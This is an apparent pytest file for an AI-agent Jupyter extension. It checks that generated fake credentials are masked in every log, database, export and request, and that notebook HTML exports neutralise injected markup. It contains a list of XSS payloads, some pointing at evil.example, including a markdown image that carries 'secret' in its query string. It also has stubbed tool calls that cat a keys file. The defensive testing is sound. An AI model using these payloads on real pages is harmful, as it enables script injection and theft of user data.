"""No secret leaves a real kernel: not by the notebook, the database, the log, the events, an export or a request."""

import json
import os
import secrets
import string
from base64 import b64encode, urlsafe_b64encode
from collections import Counter
from html.parser import HTMLParser

import duckdb
import nbformat
import pytest
from jupyter_client import AsyncKernelManager
from kernel.conftest import DEADLINE, ROOT
from nbclient import NotebookClient
from nbconvert import HTMLExporter
from own_kernel import OwnKernels
from waiting import until

from piano_jupyter.jupyter.panel.saved_transcript import NO_DEAD_VIEW
from piano_jupyter.testing import ServerReply, tool_call

LETTERS = string.ascii_letters + string.digits


def drawn(length, letters=LETTERS):
    return "".join(secrets.choice(letters) for _ in range(length))


def part_of_a_token():
    return urlsafe_b64encode(secrets.token_bytes(30)).decode().rstrip("=")


BODY = [b64encode(secrets.token_bytes(48)).decode() for _ in range(3)]
SECRETS = {
    "GitHub": "ghp_" + drawn(36),
    "a model's server": "sk-" + "aB3" * 5 + drawn(30),
    "JWT": f"eyJhbGciOiJIUzI1NiJ9.{part_of_a_token()}.{part_of_a_token()}",
    "private key": BODY[1],
    "Jupyter": secrets.token_hex(24),
    "AWS": "AKIA" + drawn(16, string.ascii_uppercase + "234567"),
    "the environment": drawn(20),
}
BLOCK = "\n".join(["-----BEGIN PRIVATE KEY-----", *BODY, "-----END PRIVATE KEY-----"])
FILE = "\n".join([*(f"{name}: {value}" for name, value in SECRETS.items() if name != "private key"), BLOCK]) + "\n"

SETUP = """
import logging, subprocess
logging.basicConfig(filename="piano.log", level=logging.DEBUG)
%load_ext piano_jupyter
%config PianoConfig.mode = MODE
%config PianoConfig.mask_secrets = MASKED
%config PianoConfig.rules = ["allow bash(cat keys.txt)", "allow run_python"]
from piano_jupyter.bus import EventBus

keys, heard, begin = open("keys.txt").read(), [], EventBus.__init__

def stumble(event):
    raise ValueError(keys)

def heard_by(bus):
    begin(bus)
    bus.subscribe(heard.append)
    bus.subscribe(stumble)

EventBus.__init__ = heard_by
%piano agent Assistant --tools bash,run_python,inspect
"ready"
"""
PROMPT = "You are a very particular assistant."
ADD_ADA = f"""
ada = await piano.add_agent(
    "ada", model="qwen3:32b", system_prompt={PROMPT!r}, enabled_tools=["read_file"], enabled_skills=["explain-simply"]
)
"""
UNTIL_ASKED = """
stream = piano.events()
job = await piano.send("act")
async for event in stream:
    if type(event).__name__ in {"ApprovalRequested", "JobDone"}:
        break
%piano approve
"""
KEEP = """
open("events.txt", "w").write(repr(heard) + repr(piano.recent_events(1000)))
for ending in ("md", "jsonl", "ipynb"):
    get_ipython().run_line_magic("piano", f"export whole.{ending}")
subprocess.run(["cp", "-r", ".piano", "copy"], check=True)  # while the last of it is still in the log of the database
"""


def executed(folder, stub, cells, *, environment):
    """Return a notebook as nbclient saves it."""
    notebook = nbformat.v4.new_notebook(cells=list(map(nbformat.v4.new_code_cell, cells)))
    manager = AsyncKernelManager(kernel_spec_manager=OwnKernels())
    own = {"IPYTHONDIR": folder / ".ipython", "JUPYTER_RUNTIME_DIR": folder / ".runtime", "PYTHONPATH": ROOT}
    env = os.environ | {name: str(path) for name, path in own.items()} | {"PIANO_BASE_URL": stub.url} | environment
    client = NotebookClient(notebook, km=manager, timeout=DEADLINE, store_widget_state=True)
    client.execute(cwd=str(folder), env=env, cleanup_kc=True)
    return notebook


def free(file):
    """Return whether no process has a database open any more: the store process stays for some seconds."""
    try:
        duckdb.connect(str(file), read_only=True).close()
    except duckdb.IOException:
        return False
    return True


def all_rows(file):
    until(lambda: free(file), "the store process stays")
    with duckdb.connect(str(file), read_only=True) as connection:
        tables = [name for (name,) in connection.execute("SELECT table_name FROM duckdb_tables()").fetchall()]
        return "".join(repr(connection.execute(f'SELECT * FROM "{table}"').fetchall()) for table in tables)


@pytest.mark.parametrize(("mode", "masked"), [("write", True), ("full", True), ("full", False)])
def test_g4_what_tools_print_and_people_type_leaves_no_secret_in_any_byte(tmp_path, stub_model, mode, masked):
    (tmp_path / "keys.txt").write_text(FILE)
    for name in (".ipython", ".runtime"):
        (tmp_path / name).mkdir()
    (tmp_path / ".runtime" / "jpserver-1.json").write_text(json.dumps({"token": SECRETS["Jupyter"]}))
    stub_model.says(
        tool_call("bash", command="cat keys.txt"),
        tool_call("run_python", code="print(keys)\ndisplay(keys)\nkeys"),
        tool_call("inspect", name="keys"),
        tool_call("run_python", code="raise ValueError(keys)"),
        "all seen",
        *[f"You typed:\n{FILE}"] * 2,
        tool_call("bash", command=f"echo '{FILE}'"),
        "acted",
    )
    cells = [
        SETUP.replace("MODE", repr(mode)).replace("MASKED", str(masked)),
        "%%piano\nlook",
        "%%piano\nremember:\n{{keys}}",
        f"%%piano\nremember:\n{FILE}",
        UNTIL_ASKED,
        "for request in await piano.approvals(): await piano.deny(request)\nawait piano.wait(job)",
        "%piano panel",
        "%piano history",
        "%piano events --last 200",
        "%piano sql SELECT * FROM tool_results",
        KEEP,
    ]

    notebook = executed(tmp_path, stub_model, cells, environment={"TEA_API_KEY": SECRETS["the environment"]})

    kept = b"".join(each.read_bytes() for each in sorted((tmp_path / "copy").rglob("*")) if each.is_file())
    shown = json.dumps([[cell.get("outputs") for cell in notebook.cells], notebook.metadata])
    places = {
        "database, with its log": kept.decode("utf-8", "replace"),
        "rows": all_rows(tmp_path / ".piano" / "piano.duckdb"),
        "log": (tmp_path / "piano.log").read_text(),
        "events": (tmp_path / "events.txt").read_text(),
        "notebook": shown,
        "requests": json.dumps(stub_model.requests),
        **{each.name: each.read_text() for each in tmp_path.glob("whole.*")},
    }
    found = {(place, name) for place, text in places.items() for name, value in SECRETS.items() if value in text}
    assert "a subscriber of" in places["log"]
    assert "ChatPanel" in json.dumps(notebook.metadata.widgets)
    assert len(stub_model.requests) == 9
    assert found == (set() if masked else {(place, name) for place in places for name in SECRETS})


def test_g5_a_saved_notebook_has_no_path_no_environment_no_key_and_no_system_prompt(tmp_path, stub_model):
    (tmp_path / ".ipython").mkdir()
    environment = {"PIANO_API_KEY": drawn(24), "MY_OWN_VARIABLE": drawn(24)}
    stub_model.says(tool_call("read_file", path="sales.csv"), "It is tea.", "And bread.")
    (tmp_path / "sales.csv").write_text("item\ntea\n")
    cells = [
        "%load_ext piano_jupyter",
        ADD_ADA,
        "%%piano @ada\nWhat is sold?",
        "%piano panel",
        "%%piano @ada\nAnd more?",
        "%piano skills",
        "%piano tools",
        "%piano history",
        "%piano queue",
        "%piano events",
        "%piano threads",
        "%config PianoConfig.api_key",
    ]

    notebook = executed(tmp_path, stub_model, cells, environment=environment)

    text = json.dumps([[cell.get("outputs") for cell in notebook.cells], notebook.metadata])
    asked = json.dumps(stub_model.requests)
    assert "It is tea." in text
    assert PROMPT in asked
    for what in (PROMPT, "<skill", str(tmp_path), str(ROOT), *environment.values()):
        assert what not in text, what


HOSTILE = [
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)></svg><iframe src=//evil.example></iframe><style>*{display:none}</style>",
    "<form action=https://evil.example><input></form>",
    "[a](javascript:alert(1)) ![b](https://evil.example/?q=secret) [c](data:text/html,x)",
    r"$\href{javascript:alert(1)}{d}$ $$\text{<img src=x onerror=alert(1)>}$$",
]


class Loads(HTMLParser):
    """What would run, load or lead away in the outputs of a page."""

    def __init__(self, page):
        super().__init__()
        self.found, self.literal = [], 0
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in {"img", "script", "svg", "iframe", "style", "form", "input", "object", "embed", "link", "meta"}:
            self.found.append(tag)
        self.found += [name for name, value in attrs if name.startswith("on") or (value or "").startswith("javascript")]
        self.literal += "tex2jax_ignore" in dict(attrs).get("class", "")


def test_g1_g2_a_notebook_as_html_runs_and_loads_no_more_than_one_without_html(tmp_path, stub_model):
    (tmp_path / ".ipython").mkdir()
    (tmp_path / "skills").mkdir()
    (tmp_path / "skills" / "<img src=x onerror=alert(1)>.md").write_text("Do.")
    everything = "\n\n".join(HOSTILE)
    stub_model.says(
        ServerReply(calls=[tool_call(HOSTILE[0], a=everything)], reasoning=everything),
        tool_call("create_file", path=HOSTILE[0], content=everything),
        tool_call("run_python", code=f"print({everything!r})"),
        everything,
    )
    cells = [
        '%load_ext piano_jupyter\n%config PianoConfig.rules = ["allow run_python"]',
        "%piano agent Assistant --tools run_python,create_file --description '<script>alert(1)</script>'",
        f"%piano thread --new {HOSTILE[1]}",
        f"%%piano\n{everything}",
        *("%piano panel", "%piano history", "%piano threads", "%piano skills", "%piano events", "%piano queue"),
        *("%piano agents", "%piano search evil", "%piano sql FROM messages", "%piano sql FROM tool_calls"),
    ]

    notebook = executed(tmp_path, stub_model, cells, environment={})
    export = HTMLExporter()
    for cell in notebook.cells:
        cell.outputs = [each for each in cell.outputs if each.get("data", "text")]  # the live output ends empty
    html = export.from_notebook_node(notebook)[0]
    page = Loads(html.replace(NO_DEAD_VIEW, ""))  # that is ours, and the same in each notebook
    for cell in notebook.cells:
        for output in cell.outputs:  # the panel itself stays: its own scripts load it
            output.get("data", {}).pop("text/html", None)
    without = Loads(export.from_notebook_node(notebook)[0])

    assert page.literal > 8
    assert HOSTILE[1] not in html
    assert Counter(page.found) == Counter(without.found)


def test_g4_a_mistake_that_quotes_a_secret_is_told_without_it(kernel):
    token = f"ghp_{drawn(36)}"

    cell = kernel.run(f"%piano thread {token}")

    assert "no thread named 'ghp_…[masked]'" in cell.stream
    assert token not in cell.stream
